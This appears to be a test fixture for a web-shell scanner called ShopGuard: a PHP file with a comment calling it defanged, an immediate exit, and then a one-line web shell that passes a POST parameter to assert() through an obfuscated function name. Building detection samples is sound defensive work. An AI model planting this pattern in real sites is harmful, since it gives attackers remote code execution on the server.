<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$k = $_POST['sg'];
$f = 'ass' . 'ert';
$f($k);
